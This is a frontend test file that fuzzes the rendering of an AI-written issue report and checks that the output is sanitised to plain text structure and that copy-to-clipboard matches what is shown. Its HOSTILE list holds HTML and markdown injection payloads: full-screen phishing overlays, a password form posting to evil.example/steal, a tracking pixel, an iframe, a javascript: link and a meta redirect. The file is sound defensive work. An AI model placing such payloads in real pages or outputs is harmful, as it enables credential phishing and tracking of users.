import { render, screen, waitFor, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import fc from 'fast-check';
import { describe, expect, it, vi } from 'vitest';
import { ReportDialog } from '../../src/client/kinds/issue-status/status-strip';
import { reportView } from '../../src/client/kinds/issue-status/report-view';
import { ToastProvider } from '../../src/client/ui/toast';

/** Pieces a hostile report (a worker account, or a model steered by the issue text) may hold. */
const HOSTILE = [
  '<div style="position:fixed;inset:0;z-index:99999;background:#fff"><a href="https://evil.example/login">Your session has expired. Tap here to sign in again.</a></div>',
  '<a href="https://evil.example/" style="position:fixed;top:0;left:0;width:100vw;height:100vh;display:block">Close</a>',
  '<form action="https://evil.example/steal" method="post"><label>Password <input type="password" name="password"></label><button>Sign in</button></form>',
  '<span style="display:none">hidden instructions for the reader</span>',
  '<div class="fixed top-0 left-0 w-screen h-screen z-5">cover</div>',
  '<p id="root" hidden>clobber</p>',
  '<img src="https://evil.example/pixel.png" width="5000" height="5000">',
  '<svg width="3000" height="3000"><rect width="3000" height="3000"/></svg>',
  '<iframe src="https://evil.example"></iframe>',
  '<textarea>typed</textarea><select><option>one</option></select>',
  '<details open><summary>more</summary>inside</details>',
  '<style>body{display:none}</style>',
  '<a href="javascript:alert(1)">js</a>',
  '<a href="/login?redirect=https://evil.example">relative</a>',
  '[Tap here to sign in](https://evil.example/login "title")',
  '![tracking](https://evil.example/t.png)',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
];
const MARKDOWN = [
  '# Finding',
  '- wind noise at **80 km/h**',
  '1. first\n2. second',
  '`code`',
  '> quoted',
  '| a | b |\n|---|---|\n| 1 | 2 |',
  'plain text',
  '[docs](https://example.com/docs)',
];
const STRUCTURE = new Set([
  'H1',
  'H2',
  'H3',
  'H4',
  'H5',
  'H6',
  'P',
  'BR',
  'HR',
  'UL',
  'OL',
  'LI',
  'STRONG',
  'EM',
  'B',
  'I',
  'DEL',
  'S',
  'CODE',
  'PRE',
  'BLOCKQUOTE',
  'A',
  'TABLE',
  'THEAD',
  'TBODY',
  'TR',
  'TH',
  'TD',
]);
const report = fc
  .array(fc.oneof(fc.constantFrom(...HOSTILE), fc.constantFrom(...MARKDOWN), fc.string()), { minLength: 1, maxLength: 6 })
  .map((parts) => parts.join('\n\n'));

/** Every element of rendered report HTML is text structure; links are http(s) or mailto and say where they go. */
function expectTextStructureOnly(root: Element): void {
  for (const el of Array.from(root.querySelectorAll('*'))) {
    expect(STRUCTURE.has(el.tagName), el.outerHTML.slice(0, 120)).toBe(true);
    const attributes = el.getAttributeNames().sort();
    expect(attributes, el.outerHTML.slice(0, 120)).toEqual(el.tagName === 'A' ? ['href', 'rel', 'target'] : []);
    if (el.tagName === 'A') {
      const href = el.getAttribute('href') ?? '';
      expect(href).toMatch(/^(https?:|mailto:)/i);
      expect(el.getAttribute('rel')).toBe('noopener noreferrer');
      expect(`${el.textContent ?? ''}${el.nextSibling?.textContent ?? ''}`, el.outerHTML).toContain(href);
    }
  }
}

describe('a hostile AI report', () => {
  it('renders as text structure only, whatever it holds: no styles, classes, forms, inputs, media or frames', () => {
    fc.assert(
      fc.property(report, (text) => {
        const holder = document.createElement('div');
        holder.innerHTML = reportView(text).html;
        expectTextStructureOnly(holder);
      }),
      { numRuns: 60 },
    );
  }, 60_000);

  it("keeps the dialog the app's: its buttons work, and Copy copies exactly what the tester sees", async () => {
    const user = userEvent.setup();
    const writeText = vi.fn(async () => {});
    Object.defineProperty(navigator, 'clipboard', { value: { writeText }, configurable: true });
    const onHide = vi.fn();
    const text = [HOSTILE[0], HOSTILE[2], HOSTILE[3], '## Finding', HOSTILE[14]].join('\n\n');
    render(
      <ToastProvider>
        <ReportDialog report={text} visible onHide={onHide} />
      </ToastProvider>,
    );
    const dialog = await screen.findByRole('dialog');
    const shown = await within(dialog).findByTestId('ai-report');
    await waitFor(() => expect(shown.querySelector('h2')).not.toBeNull());
    expectTextStructureOnly(shown);
    expect(shown.querySelector('form, input, button, [style]')).toBeNull();
    // The outside link says where it goes.
    expect(shown.textContent).toContain('Tap here to sign in again. (https://evil.example/login)');
    await user.click(within(dialog).getByRole('button', { name: 'Copy' }));
    await waitFor(() => expect(writeText).toHaveBeenCalledTimes(1));
    const copied = (writeText.mock.calls[0] as unknown as [string])[0];
    // What is copied is what is shown: every copied word is on the screen, and no markup is.
    expect(copied).not.toMatch(/<|\*\*|##|style=/);
    for (const word of copied.split(/\s+/).filter(Boolean)) expect(shown.textContent).toContain(word.replace(/^(-|\d+\.)$/, ''));
    expect(copied).toContain('Finding');
    // The footer's Close (the header's close icon has the same name).
    await user.click(within(dialog).getAllByRole('button', { name: 'Close' }).at(-1)!);
    expect(onHide).toHaveBeenCalled();
  });
});
